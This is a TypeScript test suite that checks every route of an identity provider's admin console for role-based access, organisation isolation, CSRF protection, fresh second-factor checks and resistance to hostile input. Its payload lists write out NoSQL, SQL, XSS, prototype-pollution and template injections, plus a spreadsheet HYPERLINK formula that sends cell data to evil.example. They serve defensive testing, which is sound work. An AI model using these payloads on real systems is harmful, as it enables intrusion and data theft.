/**
 * Every address of the console, called by every role, on their own organisation and on another one's, with a
 * fresh second step and an old one, from another site and half signed in. What each may is in the table of who
 * may do what; the routes are the router's own.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { ACCESS } from '../../src/policy/access.ts';
import type { AccessRow } from '../../src/policy/access-row.ts';
import { loadConfig } from '../../src/config/load.ts';
import { clientRefusalsCollection } from '../../src/oidc/clients/refusals/client-refusals.ts';
import { createNotices } from '../../src/mail/notices.ts';
import { addGroup } from '../../src/operations/groups/add-group.ts';
import { changeBranding } from '../../src/operations/organisations/change-branding.ts';
import { listSigningKeys } from '../../src/operations/keys/list-keys.ts';
import { previewPolicy } from '../../src/operations/organisations/preview-policy.ts';
import { beginImport } from '../../src/operations/people/import/import-job.ts';
import { addResource } from '../../src/operations/resources/add-resource.ts';
import { disablePerson } from '../../src/operations/people/disable-person.ts';
import { resetFactors, type ResetFactorsParts } from '../../src/operations/people/reset-factors.ts';
import { updatePerson, type UpdatePersonParts } from '../../src/operations/people/update-person.ts';
import { clientCollection } from '../../src/records/client.ts';
import { groupCollection, groupNameCollection } from '../../src/records/group.ts';
import { resourceCollection } from '../../src/records/resource.ts';
import { jobCollection } from '../../src/records/under-way/job.ts';
import type { Collection } from '../../src/storage/store.ts';
import {
  organisationCollection,
  organisationName,
  updateOrganisation,
} from '../../src/records/organisation.ts';
import { changePerson, personCollection, ROLES, type Role } from '../../src/records/person.ts';
import { valueOf } from '../../src/result.ts';
import { adminPages } from '../../src/web/admin/index.ts';
import { png } from '../branding/sample-pictures.ts';
import { memberOf, type Member } from '../support/account.ts';
import { byOperator, performedByOperator } from '../support/by-operator.ts';
import { openThings } from '../support/open-things.ts';
import { EXPRESSION, RECKONED } from '../support/payloads.ts';
import {
  createHttpBrowser,
  formData,
  unescapeHtml,
  type HtmlPage,
  type HttpBrowser,
} from '../support/http-browser.ts';
import { PASSWORD, startTestServer, type TestServer } from '../support/server.ts';
import { stepOf } from '../support/sign-in.ts';

const AT_DOOR = /^\/auth\?client_id=latchkey-admin&/u;

let server: TestServer;
/** By the organisation that they are of. */
let added = 0;
let app = '';
const targets: Record<string, Record<string, string>> = {};

before(async () => {
  server = await startTestServer({ LATCHKEY_MAIL_SMTP_URL: 'smtp://127.0.0.1:9' });
  await byOperator(server).addOrganisation({ name: 'Globex', mfa: 'optional' });
  app = (await server.addClient()).clientId;
  await addTargets();
});
after(() => server.stop());

async function groupFor(organisation: string): Promise<string> {
  const parts = { store: server.store, relay: { soon: () => undefined } };
  const input = { organisation, name: `group ${added}`, description: '' };
  return valueOf(await addGroup(parts, performedByOperator(server.now()), input)).id;
}

/** An app that is open to the organisation alone, with two secrets and a request that could be accepted. */
async function appFor(organisation: string): Promise<Record<string, string>> {
  const operator = byOperator(server);
  const redirectUris = [`https://${organisation}.example/cb`];
  const named = { name: `app-of-${organisation}`, organisations: [organisation] };
  const { client } = await operator.addClient({ kind: 'web', ...named, redirectUris });
  const value = `https://${organisation}.example/other`;
  const came = { endpoint: 'authorization', reason: 'redirect_uri', value, count: 1 };
  const refusals = [{ ...came, firstAt: server.now(), lastAt: server.now() }];
  const { id, registration = null, secrets } = client;
  await server.store.put(clientRefusalsCollection, id, { registration, refusals });
  await operator.rotateSecret(id, false, 86_400_000);
  const refusal = createHash('sha256').update(`redirect_uri ${value}`).digest('base64url');
  const scopes = [{ name: `scope-${organisation}-${added}`, description: 'look' }];
  const input = { id: `urn:walk:${organisation}:${added}`, scopes };
  const resource = valueOf(await addResource(server, performedByOperator(server.now()), input)).id;
  return { client: id, secret: secrets[0]?.id ?? '', refusal: refusal.slice(0, 22), resource };
}

/** One that could be brought back. */
async function logoFor(organisation: string): Promise<string> {
  const performed = performedByOperator(server.now());
  const logo = new Uint8Array(png(64, 32));
  const { organisation: after } = valueOf(
    await changeBranding(server, performed, organisation, { logo }),
  );
  return after.logo?.id ?? '';
}

/** Somebody in each organisation, of whom nothing has been taken away. */
async function addTargets(): Promise<void> {
  added += 1;
  for (const organisation of ['acme', 'globex']) {
    const login = `target${added}-${organisation}`;
    const email = `${login}@${organisation}.test`;
    const { person } = await server.addPerson({ organisation, login, email }, { totp: true });
    const [factor] = person.authenticators;
    const group = await groupFor(organisation);
    const open = await openThings(server, person, app);
    const known = await appFor(organisation);
    targets[organisation] = {
      ...(await plantRequests(person.id, organisation)),
      ...known,
      organisation,
      logo: await logoFor(organisation),
      ...(await keysOf()),
      part: 'addresses',
      template: 'nextcloud',
      id: person.id,
      item: factor?.id ?? '',
      factor: 'totp',
      group,
      ...open,
    };
  }
}

/** One that signs, and the one that encrypts. */
async function keysOf(): Promise<Record<string, string>> {
  const listed = await listSigningKeys(server, performedByOperator(server.now()));
  const signing = valueOf(listed).find(({ state }) => state === 'signing')?.key.kid ?? '';
  return { signing, encryption: server.vault.ring.active };
}

/** Who is at the console, and has asked for what is approved. */
let here = '';

/** Something that waits for a second person, and a reset that was approved. */
async function plantRequests(id: string, organisation: string): Promise<Record<string, string>> {
  const asker = await server.addPerson(
    {
      organisation,
      role: 'organisation-administrator',
      login: `asker-${id.toLowerCase()}`,
      email: `asker${added}@${organisation}.test`,
    },
    { totp: true },
  );
  const own = { by: asker.person.id, at: server.now(), approved: null };
  const reset = { ...own, act: { what: 'factors-reset' as const } };
  const approved = { by: asker.person.id, at: server.now() };
  await changePerson(server.store, id, ({ epoch }) => {
    const waits = { ...reset, id: 'request', epoch };
    const done = { ...reset, by: here, id: 'approved', epoch, approved };
    const enrolmentCode = { hash: '', expiresAt: 0 };
    return { set: { requests: [waits, done], enrolmentCode }, result: undefined };
  });
  const off = { ...own, id: 'off', act: { what: 'second-person-off' as const }, epoch: 0 };
  await updateOrganisation(server.store, organisation, () => ({
    set: { requests: [off] },
    result: undefined,
  }));
  return { request: 'request', approved: 'approved', off: 'off', organisation };
}

/** What somebody of the staff has asked of another policy; nobody else sees it. */
async function addPreviews({ person }: Member): Promise<void> {
  for (const organisation of ['acme', 'globex']) {
    const parts = {
      store: server.store,
      config: loadConfig({ cwd: server.folder, env: server.env }),
    };
    const actor = { kind: 'administrator' as const, id: person.person.id };
    const performed = { ...performedByOperator(server.now()), actor };
    const asked = await previewPolicy(parts, performed, organisation, { trustedDays: 29 });
    if (asked.ok) targets[organisation] = { ...targets[organisation], preview: asked.value.id };
    const how = {
      file: 'x.csv',
      format: 'csv',
      mode: 'upsert',
      key: 'login',
      organisation,
    } as const;
    const mails = createNotices(server.vault, parts.config, organisationName(server.store));
    const relay = { soon: () => undefined };
    const all = { ...parts, vault: server.vault, notices: mails, relay };
    const begun = await beginImport(all, performed, how, Buffer.from('login\nx\n'));
    if (begun.ok) targets[organisation] = { ...targets[organisation], import: begun.value };
  }
}

interface Route {
  method: 'GET' | 'POST';
  path: string;
  row: AccessRow;
  fresh: boolean;
  uploads: boolean;
}

/** What is looked at comes first: it is there still. */
const routes: readonly Route[] = adminPages
  .flatMap(({ path, operation, fresh, submit, upload }) => {
    const row: AccessRow = ACCESS[operation];
    const get = { method: 'GET' as const, path, row, fresh, uploads: upload !== undefined };
    const post = { ...get, method: 'POST' as const, fresh: fresh || row.fresh };
    return submit ? [get, post] : [get];
  })
  .toSorted((a, b) => a.method.localeCompare(b.method));
const posts = routes.filter(({ method }) => method === 'POST');

function pathTo({ path }: Route, organisation: string): string {
  return path.replaceAll(/:(\w+)/gu, (_, name: string) => targets[organisation]?.[name] ?? 'x');
}

/** Nothing of it is right. */
const FIELDS = { name: '', mfa: 'never', 'name[$ne]': 'x', organisation: '{"$ne":null}' };

function call(
  browser: HttpBrowser,
  { method, uploads }: Route,
  path: string,
  csrf: string,
  headers = {},
): Promise<HtmlPage> {
  const url = `${server.issuer}${path}`;
  if (method === 'GET') return browser.send(url, { headers });
  const fields = { ...FIELDS, csrf };
  const body = uploads ? formData(fields) : new URLSearchParams(fields);
  return browser.send(url, { method, body, headers });
}

const csrfOf = ({ html }: HtmlPage): string => /name="csrf" value="([^"]*)"/u.exec(html)?.[1] ?? '';

async function staff(role: Role): Promise<Member & { csrf: string }> {
  const member = memberOf(server, await server.addPerson({ role }, { totp: true }));
  const page = await member.open('/admin');
  assert.equal(page.status, role === 'member' ? 403 : 200, role);
  return { ...member, csrf: csrfOf(page) };
}

/** What somebody looks after, as the store keeps it. */
const LOOKED_AFTER = [
  personCollection,
  clientCollection,
  organisationCollection,
  groupCollection,
  groupNameCollection,
  resourceCollection,
] as const;

/** Everybody, every app, organisation, group and resource, as the store keeps them, and the jobs that were asked for. */
async function everybody(): Promise<string> {
  await server.settle();
  const { store } = server;
  const all = await Promise.all(
    (LOOKED_AFTER as readonly Collection<any>[]).map((one) => store.scan(one, { limit: 1000 })),
  );
  const sorted = all.map(({ items }) => items.toSorted((a, b) => a.id.localeCompare(b.id)));
  const jobs = await store.scan(jobCollection, { limit: 1000 });
  const asked = jobs.items.map(({ id, value: { by, askedAt } }) => `${id} ${by} ${askedAt}`);
  return JSON.stringify([...sorted, asked.toSorted()]);
}

const PAYLOADS = [
  '{"$ne":null}',
  '\'); DROP TABLE k_person; -- "',
  EXPRESSION,
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '"><img src=x onerror=alert(1)>',
];
/** Done, asked for anew, refused or not there; never a fault of ours. */
const EXPECTED = [200, 303, 400, 403, 404, 409, 429];

/** Neither run nor reckoned. */
function assertHarmless(html: string, what: string): void {
  assert.doesNotMatch(html, /<img src=x/u, what);
  assert.ok(!html.includes(RECKONED), what);
}

/** Of the page itself, and not of its frame: the names of all boxes, those that are typed into, and what they have. */
function formsIn(html: string) {
  const forms = [...html.matchAll(/<form\b([^>]*method="post"[^>]*)>([\s\S]*?)<\/form>/gu)];
  return forms
    .filter(([, tag = '']) => !/sign-out|language/u.test(tag))
    .map(([, , inside = '']) => {
      const boxes = [...inside.matchAll(/<(?:input|select|textarea|button)\b[^>]*>/gu)].map(
        ([box]) => ({
          name: /\bname="([^"]*)"/u.exec(box)?.[1] ?? '',
          value: unescapeHtml(/\bvalue="([^"]*)"/u.exec(box)?.[1] ?? ''),
          isTyped: /^<(?:textarea|input(?![^>]*type="(?:hidden|checkbox|radio)"))/u.test(box),
        }),
      );
      const named = boxes.filter(({ name }) => name !== '' && name !== 'csrf');
      return {
        names: [...new Set(named.map(({ name }) => name))],
        typed: named.filter(({ isTyped }) => isTyped).map(({ name }) => name),
        values: Object.fromEntries(named.map(({ name, value }) => [name, value])),
      };
    });
}

const whatFor = ({ method, path }: Route, role: string): string => `${role}: ${method} ${path}`;

describe('every address of the console', () => {
  it('sends whoever is not signed in, or half signed in, to the sign-in', async () => {
    const stranger = createHttpBrowser(server.issuer);
    const at = await stranger.open(`${server.issuer}/admin`);
    assert.match(at.html, /to continue to Latchkey administration/u);
    const person = await server.addPerson({ role: 'administrator' }, { totp: true });
    const half = createHttpBrowser(server.issuer);
    const first = await half.open(`${server.issuer}/admin`);
    const second = await half.submit(first, { login: person.login, password: PASSWORD });
    assert.equal(stepOf(second), 'totp');
    for (const [browser, page] of [[stranger, at] as const, [half, second] as const])
      for (const route of routes) {
        const answer = await call(browser, route, pathTo(route, 'acme'), csrfOf(page));
        assert.equal(answer.status, 303, whatFor(route, 'nobody'));
        assert.match(answer.headers.get('location') ?? '', AT_DOOR);
      }
  });

  it('sends whoever has come to the account pages alone to the sign-in', async () => {
    const person = await server.addPerson({ role: 'administrator' }, { totp: true });
    const member = memberOf(server, person);
    const csrf = csrfOf(await member.open('/account'));
    for (const route of routes) {
      const answer = await call(member.browser, route, pathTo(route, 'acme'), csrf);
      assert.match(answer.headers.get('location') ?? '', AT_DOOR, whatFor(route, 'account'));
    }
  });

  for (const role of ROLES)
    it(`does for ${role} what the table says`, async () => {
      const { browser, csrf, ...member } = await staff(role);
      here = member.person.person.id;
      await addTargets();
      await addPreviews({ browser, ...member });
      const before = await everybody();
      for (const route of routes)
        for (const organisation of ['acme', 'globex']) {
          // Of a factor that is gone there is nothing left to take.
          const takes =
            route.method === 'POST' &&
            /:(?:item|group|session|app|computer|passcode|client|resource|request|approved|off|signing)/u.test(
              route.path,
            );
          if (takes && route.row.roles[role]) {
            await addTargets();
            await addPreviews({ browser, ...member });
          }
          const path = pathTo(route, organisation);
          const { status, headers } = await call(browser, route, path, csrf);
          const what = `${whatFor(route, role)} of ${organisation}`;
          if (role === 'member') {
            assert.match(headers.get('location') ?? '', AT_DOOR, what);
            continue;
          }
          const reach = route.row.roles[role];
          const isAbout = path !== route.path;
          if (reach === undefined) assert.equal(status, 403, what);
          else if (isAbout && reach === 'own' && organisation !== 'acme')
            assert.equal(status, 404, what);
          else if (route.method === 'GET') assert.equal(status, 200, what);
          else assert.ok([200, 303, 400, 409].includes(status), `${what}: ${status}`);
        }
      if (role === 'auditor' || role === 'member') assert.equal(await everybody(), before);
    });

  it('does nothing to whoever is above, to oneself, or to the last administrator', async () => {
    const { person: boss } = await server.addPerson({ role: 'administrator' }, { totp: true });
    const onSomebody = posts.filter(({ path }) => path.startsWith('/admin/people/:id'));
    for (const role of ['helpdesk', 'organisation-administrator', 'administrator'] as const) {
      const { browser, person, csrf } = await staff(role);
      const [own, item] = [person.person.id, person.person.authenticators[0]?.id ?? ''];
      const open = await openThings(server, boss, app);
      const before = await everybody();
      const whom = role === 'administrator' ? [own] : [own, boss.id];
      for (const id of whom)
        for (const route of onSomebody) {
          targets['them'] = { id, item, factor: 'totp', ...open };
          const { status } = await call(browser, route, pathTo(route, 'them'), csrf);
          const isFilledIn = status === 400 || status === 404;
          assert.ok(status === 403 || isFilledIn, `${whatFor(route, role)}: ${status}`);
        }
      assert.equal(await everybody(), before, role);
    }
  });

  it('changes nothing without this browser’s token, nor from another site', async () => {
    const { browser, csrf } = await staff('administrator');
    const before = await everybody();
    for (const route of posts) {
      const path = pathTo(route, 'acme');
      assert.equal((await call(browser, route, path, 'x'.repeat(43))).status, 403, path);
      const headers = { 'sec-fetch-site': 'cross-site' };
      assert.equal((await call(browser, route, path, csrf, headers)).status, 403, path);
    }
    assert.equal(await everybody(), before);
  });

  it('asks for the second step again after five minutes, and changes nothing till then', async () => {
    const { browser, csrf } = await staff('administrator');
    const before = await everybody();
    server.clock.ahead += 360_000;
    for (const route of routes.filter(({ fresh }) => fresh)) {
      const { status, headers } = await call(browser, route, pathTo(route, 'acme'), csrf);
      assert.equal(status, 303, whatFor(route, 'stale'));
      assert.match(headers.get('location') ?? '', /&max_age=300&login_hint=/u);
    }
    assert.equal(await everybody(), before);
  });

  it('answers what nobody would ask with a page, and shows nothing of another organisation', async () => {
    const { browser, csrf } = await staff('organisation-administrator');
    const cursor = (...place: unknown[]): string =>
      Buffer.from(JSON.stringify(place)).toString('base64url');
    const { group = '', id = '' } = targets['globex'] ?? {};
    const asked = ['{"$ne":null}', '{{ 7*7 }}', "' or 1=1 --", '\0', 'x'.repeat(300), '\u{10FFFF}'];
    asked.push(cursor('globex ', 1), cursor('globex ', 'a'), cursor('', 0), cursor(1), group, id);
    const names = ['after', 'before', 'q', 'organisation', 'group', 'person', 'actor', 'client'];
    names.push(
      'kind',
      'scope',
      'role',
      'state',
      'sort',
      'type',
      'from',
      'until',
      'form',
      'after[$ne]',
      '__proto__',
    );
    const lists = ['', '/people', '/groups', `/groups/${targets['acme']?.['group']}`, '/audit'];
    lists.push('/organisations', '/organisations/acme', '/organisations/acme/policy');
    lists.push('/rollout', '/rollout/acme', '/rollout/acme/remind');
    const client = `/apps/${targets['acme']?.['client']}`;
    lists.push('/apps', client, `${client}/who`, `${client}/preview`, `${client}/used`);
    const gets = routes.filter(({ method }) => method === 'GET');
    for (const value of asked) {
      const query = new URLSearchParams(names.map((name) => [name, value]));
      const each = ['after', 'group'].map((name) => new URLSearchParams({ [name]: value }));
      for (const list of lists)
        for (const one of [query, ...each]) {
          const { status, html } = await browser.send(`${server.issuer}/admin${list}?${one}`);
          assert.ok([200, 403, 404].includes(status), `${list}?${one}: ${status}`);
          assert.doesNotMatch(html, /target\d+-globex|app-of-globex/u, `${list}?${one}`);
        }
      targets['hostile'] = Object.fromEntries(
        Object.keys(targets['acme'] ?? {}).map((name) => [name, encodeURIComponent(value)]),
      );
      const about = [...gets, ...posts].filter(({ path }) => path.includes(':'));
      for (const route of about) {
        if (route.row.roles['organisation-administrator'] === undefined) continue;
        const { status } = await call(browser, route, pathTo(route, 'hostile'), csrf);
        const closed = route.row.roles['organisation-administrator'] === undefined ? [403] : [];
        assert.ok(
          [400, 404, 414, ...closed].includes(status),
          `${whatFor(route, value)}: ${status}`,
        );
      }
    }
  });

  it('takes whatever is typed into each of its forms as data', async () => {
    const { browser, csrf, person } = await staff('administrator');
    here = person.person.id;
    const canary = await server.addPerson({ name: 'Carla Canary' }, { totp: true });
    const kept = async () =>
      JSON.stringify(await server.store.get(personCollection, canary.person.id));
    await server.settle();
    const before = await kept();
    const walked = new Set<string>();
    for (const route of posts) {
      if (route.path.includes(':')) await addTargets();
      const url = `${server.issuer}${pathTo(route, 'acme')}`;
      for (const payload of PAYLOADS)
        for (const form of formsIn((await browser.send(url)).html)) {
          // All of it, and what is typed alone: the rest is as it was shown, so that it comes as far as it can.
          for (const names of [form.names, form.typed]) {
            const typed = Object.fromEntries(names.map((name) => [name, payload]));
            const body = new URLSearchParams({ ...form.values, ...typed, csrf });
            body.append(`${names[0] ?? 'name'}[$ne]`, 'x');
            body.append('__proto__', '{"admin":true}');
            const answer = await browser.send(url, { method: 'POST', body });
            const what = `${route.path} ${payload}: ${answer.status}`;
            assert.ok(EXPECTED.includes(answer.status), what);
            assertHarmless(answer.html, what);
          }
          if (form.typed.length > 0) walked.add(route.path);
        }
    }
    assert.ok(walked.size >= 15, [...walked].join(' '));
    await server.settle();
    assert.equal(await kept(), before);
    for (const list of [
      '',
      '/people',
      '/groups',
      '/apps',
      '/organisations',
      '/resources',
      '/audit',
    ])
      assertHarmless((await browser.send(`${server.issuer}/admin${list}`)).html, list);
    const file = await browser.send(`${server.issuer}/admin/audit/export?format=csv`);
    for (const cell of parse(file.html).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/u, cell);
    assert.equal(({} as { admin?: boolean }).admin, undefined);
  });

  it('is never framed, and runs no script of its own', async () => {
    const { browser } = await staff('administrator');
    const { headers } = await browser.send(`${server.issuer}/admin`);
    const policy = headers.get('content-security-policy') ?? '';
    assert.match(policy, /frame-ancestors 'none'/u);
    assert.doesNotMatch(policy, /unsafe-inline/u);
    assert.equal(headers.get('cache-control'), 'no-store');
  });
});

describe('whoever is in the console', () => {
  const over: [
    string,
    (parts: UpdatePersonParts & ResetFactorsParts, id: string) => Promise<unknown>,
  ][] = [
    ['disabled', (parts, id) => disablePerson(parts, performedByOperator(server.now()), id)],
    [
      'demoted',
      (parts, id) => updatePerson(parts, performedByOperator(server.now()), id, { role: 'member' }),
    ],
    ['reset', (parts, id) => resetFactors(parts, performedByOperator(server.now()), id)],
  ];
  for (const [what, act] of over)
    it(`is out of it at once when they are ${what}`, async () => {
      const { browser, person, csrf } = await staff('organisation-administrator');
      const { store, vault } = server;
      const relay = { soon: () => undefined };
      const config = loadConfig({ cwd: server.folder, env: server.env });
      const notices = createNotices(vault, config, organisationName(store));
      await act({ store, vault, relay, notices }, person.person.id);
      for (const route of routes) {
        const answer = await call(browser, route, pathTo(route, 'acme'), csrf);
        assert.match(answer.headers.get('location') ?? '', AT_DOOR, whatFor(route, what));
      }
    });

  it('finds the way there on the account page, if their role has one', async () => {
    for (const [role, there] of [['helpdesk', true] as const, ['member', false] as const]) {
      const member = memberOf(server, await server.addPerson({ role }, { totp: true }));
      const { html } = await member.open('/account');
      assert.equal(html.includes('href="/admin"'), there, role);
    }
  });

  it('signs out', async () => {
    const { browser, csrf } = await staff('helpdesk');
    const body = new URLSearchParams({ csrf });
    const out = await browser.send(`${server.issuer}/admin/sign-out`, { method: 'POST', body });
    assert.match(out.html, /You have signed out here/u);
    const { headers } = await browser.send(`${server.issuer}/admin`);
    assert.match(headers.get('location') ?? '', AT_DOOR);
  });
});
